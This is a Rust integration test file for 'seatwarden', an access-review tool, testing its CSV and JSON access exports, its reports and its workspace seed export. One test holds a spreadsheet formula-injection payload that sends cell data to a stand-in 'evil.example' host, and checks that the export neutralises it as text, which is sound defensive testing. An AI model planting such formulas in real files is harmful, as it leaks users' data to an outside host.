//! `seatwarden export access`: from the demo's stored state, every account with the
//! identity and mapping behind it, or why none (`orphaned`, `disputed`, `protected`).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::process::Command;

use seatwarden::config::Config;
use seatwarden::store::Store;

#[tokio::test]
async fn access_export_justifies_every_account() {
    let dir = tempfile::tempdir().unwrap();
    seatwarden::demo::run(dir.path(), false).await.unwrap();
    let config = Config::load_with_env(
        &dir.path().join("seatwarden.toml"),
        Some(Default::default()),
    )
    .unwrap();
    let store = Store::open(&config.state.path).unwrap();
    let export = seatwarden::export::access(&store, &config).unwrap();

    let workspace = store
        .load_workspace_snapshot(export.run_id)
        .unwrap()
        .unwrap();
    assert_eq!(
        export.accounts.len(),
        workspace.accounts.len(),
        "every account"
    );
    let row = |user: &str| {
        export
            .accounts
            .iter()
            .find(|r| r.user_name == user)
            .unwrap_or_else(|| panic!("{user} not exported"))
    };
    let handmade = row("freelancer.max@gmail.com");
    assert_eq!(handmade.justification, "orphaned");
    assert_eq!(handmade.identity_id, None);
    let leaver = row("olivia.haddad@example.com");
    assert!(!leaver.active, "deactivated by the demo's reconcile");
    assert!(leaver.justification.contains("deprovisioned"), "{leaver:?}");
    assert!(
        leaver
            .justification
            .ends_with("account deactivated (no access)"),
        "nothing is pending for a deactivated account: {leaver:?}"
    );
    assert!(
        leaver.last_change.is_some(),
        "the deactivation is the last change"
    );
    let mapped = row("liam.kowalski@example.com");
    assert!(mapped.justification.contains(" → "), "{mapped:?}");
    assert!(
        mapped.workspace_groups.contains(&"Finance".to_owned()),
        "{mapped:?}"
    );
    assert_eq!(
        mapped.identity_user_name.as_deref(),
        Some("liam.kowalski@example.com"),
        "{mapped:?}"
    );
    assert_eq!(mapped.identity_id.as_deref(), Some("00u1011"), "{mapped:?}");

    let csv = export.to_csv().unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "account_id",
            "user_name",
            "active",
            "role",
            "workspace_groups",
            "identity_id",
            "identity_user_name",
            "identity_status",
            "justification",
            "last_change",
            "snapshot_at",
            "applied_through",
            "since_snapshot"
        ]
    );
    assert_eq!(reader.records().count(), export.accounts.len());

    // The command prints the same, as CSV and as JSON.
    let run = |format: &str| {
        let output = Command::new(env!("CARGO_BIN_EXE_seatwarden"))
            .arg("--config")
            .arg(dir.path().join("seatwarden.toml"))
            .args(["export", "access", "--format", format])
            .output()
            .unwrap();
        assert!(output.status.success(), "{output:?}");
        String::from_utf8(output.stdout).unwrap()
    };
    assert_eq!(run("csv"), csv);
    let json: serde_json::Value = serde_json::from_str(&run("json")).unwrap();
    assert_eq!(
        json["accounts"].as_array().unwrap().len(),
        export.accounts.len()
    );
}

#[tokio::test]
async fn report_and_digest_commands_print_every_format() {
    let dir = tempfile::tempdir().unwrap();
    seatwarden::demo::run(dir.path(), false).await.unwrap();
    let run = |args: &[&str]| {
        let output = Command::new(env!("CARGO_BIN_EXE_seatwarden"))
            .arg("--config")
            .arg(dir.path().join("seatwarden.toml"))
            .args(args)
            .output()
            .unwrap();
        assert!(output.status.success(), "{args:?}: {output:?}");
        String::from_utf8(output.stdout).unwrap()
    };
    let markdown = run(&["report", "--format", "markdown"]);
    assert!(markdown.starts_with("# seatwarden run "), "{markdown}");
    let html = run(&["report", "--format", "html"]);
    assert!(html.starts_with("<!DOCTYPE html>"), "{html}");
    assert!(html.contains("Disputed matches"));
    let digest: serde_json::Value =
        serde_json::from_str(&run(&["digest", "--period", "1h", "--format", "json"])).unwrap();
    assert_eq!(
        digest["period"]["runs"], 3,
        "the demo's plan, reconcile, plan"
    );
    assert!(
        digest["subject"]
            .as_str()
            .unwrap()
            .starts_with("[seatwarden] 127.0.0.1: ")
    );
    let text = run(&["digest", "--format", "text"]);
    assert!(
        text.starts_with("seatwarden digest for 127.0.0.1"),
        "{text}"
    );
}

/// Folder names and hand-made userNames are chosen by workspace members: a cell a
/// spreadsheet would run as a formula is exported as text; the JSON keeps it as is.
#[test]
fn csv_cells_a_spreadsheet_would_run_are_exported_as_text() {
    use seatwarden::export::{AccessExport, AccessRow};
    let export = AccessExport {
        run_id: 7,
        snapshot_at: chrono::Utc::now(),
        applied_through: None,
        accounts: vec![AccessRow {
            account_id: "a1".into(),
            user_name: "@evil".into(),
            active: true,
            role: vec!["Viewer".into()],
            workspace_groups: vec![
                "=HYPERLINK(\"https://evil.example/?\"&B2,\"x\")".into(),
                "Finance".into(),
            ],
            identity_id: None,
            identity_user_name: None,
            identity_status: None,
            justification: "orphaned".into(),
            last_change: None,
            since_snapshot: None,
        }],
    };
    let csv = export.to_csv().unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[0], "a1");
    assert_eq!(&row[1], "'@evil");
    assert_eq!(
        &row[4],
        "'=HYPERLINK(\"https://evil.example/?\"&B2,\"x\")\nFinance"
    );
    assert_eq!(&row[8], "orphaned");
    assert!(export.to_json().contains("\"user_name\": \"@evil\""));
}

/// An access review must not call removal pending for access that is gone: a
/// leaver's deactivated account says so, an active one is still due.
#[test]
fn a_deactivated_leavers_account_is_not_due_for_removal() {
    use seatwarden::model::{
        Account, DirectorySnapshot, Identity, IdentityStatus, LinkMethod, NewLink,
        WorkspaceSnapshot,
    };
    use seatwarden::store::RunKind;

    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("directory.json"), "{\"users\": []}").unwrap();
    std::fs::write(
        dir.path().join("seatwarden.toml"),
        "[directory]\nkind = \"file\"\npath = \"directory.json\"\n\
         [workspace]\nurl = \"https://example.invalid/scim/v2\"\ntoken = \"t\"\n",
    )
    .unwrap();
    let config = Config::load_with_env(
        &dir.path().join("seatwarden.toml"),
        Some(Default::default()),
    )
    .unwrap();
    let t0 = chrono::DateTime::parse_from_rfc3339("2026-11-29T08:00:00Z")
        .unwrap()
        .with_timezone(&chrono::Utc);
    let person = |id: &str, status| Identity {
        id: id.into(),
        user_name: format!("{id}@example.com"),
        email: None,
        given_name: None,
        family_name: None,
        display_name: None,
        status,
        department: None,
        groups: vec![],
    };
    let account = |id: &str, user: &str, active| Account {
        id: id.into(),
        user_name: format!("{user}@example.com"),
        external_id: Some(user.into()),
        given_name: None,
        family_name: None,
        display_name: None,
        email: None,
        active,
        roles: vec!["Viewer".into()],
    };
    let mut store = Store::open(&config.state.path).unwrap();
    let run = store.begin_run(RunKind::Plan, t0).unwrap();
    store
        .save_directory_snapshot(
            run,
            &DirectorySnapshot {
                identities: vec![
                    person("gone", IdentityStatus::Deprovisioned),
                    person("going", IdentityStatus::Suspended),
                    person("back", IdentityStatus::Active),
                    person("here", IdentityStatus::Active),
                ],
                complete: true,
            },
        )
        .unwrap();
    store
        .save_workspace_snapshot(
            run,
            &WorkspaceSnapshot {
                accounts: vec![
                    account("a1", "gone", false),
                    account("a2", "going", true),
                    account("a3", "deleted", false),
                    account("a4", "back", false),
                    account("a5", "here", true),
                ],
                groups: vec![],
            },
        )
        .unwrap();
    let link = |identity: &str, account: &str| NewLink {
        identity_id: identity.into(),
        account_id: account.into(),
        method: LinkMethod::ExternalId,
    };
    store
        .upsert_links(
            &[
                link("gone", "a1"),
                link("going", "a2"),
                link("deleted", "a3"),
                link("back", "a4"),
                link("here", "a5"),
            ],
            t0,
        )
        .unwrap();

    let export = seatwarden::export::access(&store, &config).unwrap();
    let justification = |id: &str| {
        export
            .accounts
            .iter()
            .find(|r| r.account_id == id)
            .map(|r| r.justification.as_str())
            .unwrap()
    };
    assert_eq!(
        justification("a1"),
        "identity is deprovisioned in the directory: account deactivated (no access)"
    );
    assert_eq!(
        justification("a2"),
        "identity is suspended in the directory: access due to be removed"
    );
    assert_eq!(
        justification("a3"),
        "linked to deleted which is no longer in the directory: account deactivated (no access)"
    );
    // An active person's deactivated account grants nothing either: no mapping's
    // access is listed for it, unlike their active colleague's.
    assert_eq!(
        justification("a4"),
        "identity is active in the directory: account deactivated (no access)"
    );
    assert_eq!(justification("a5"), "in scope: default role Viewer");
}

/// `seatwarden export workspace` writes the workspace as the latest run read it
/// as a sandbox seed: loaded back it is the workspace the demo left (every
/// account, role and membership, with the workspace's ids), and served where
/// the configuration points it plans nothing, as the demo's converged workspace
/// does. Asked for CSV it refuses rather than writing something else.
#[tokio::test]
async fn workspace_export_is_a_seed_of_the_workspace_as_last_read() {
    let dir = tempfile::tempdir().unwrap();
    seatwarden::demo::run(dir.path(), false).await.unwrap();
    let export = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_seatwarden"))
            .arg("--config")
            .arg(dir.path().join("seatwarden.toml"))
            .args(args)
            .output()
            .unwrap()
    };
    let output = export(&["export", "workspace"]);
    assert!(output.status.success(), "{output:?}");
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(
        stderr.starts_with("the workspace as run 3 read it at "),
        "the demo's second plan: {stderr}"
    );
    std::fs::write(dir.path().join("exported.json"), &output.stdout).unwrap();

    let sorted = |mut snapshot: seatwarden::model::WorkspaceSnapshot| {
        snapshot.accounts.sort_by(|a, b| a.id.cmp(&b.id));
        snapshot.groups.sort_by(|a, b| a.id.cmp(&b.id));
        for group in &mut snapshot.groups {
            group.members.sort();
        }
        snapshot
    };
    let exported =
        sorted(seatwarden::sandbox::load_seed(&dir.path().join("exported.json")).unwrap());
    let left = sorted(seatwarden::sandbox::load_seed(&dir.path().join("workspace.json")).unwrap());
    assert!(exported.accounts.len() > 50, "{}", exported.accounts.len());
    assert!(exported.accounts.iter().any(|a| !a.roles.is_empty()));
    assert_eq!(exported, left);
    assert_eq!(
        crate::first_contact::plan_against(dir.path(), "exported.json").await,
        0
    );

    let refused = export(&["export", "workspace", "--format", "csv"]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(
        String::from_utf8(refused.stderr)
            .unwrap()
            .contains("`export workspace` writes a sandbox seed, which is JSON"),
    );
    assert!(refused.stdout.is_empty());
}
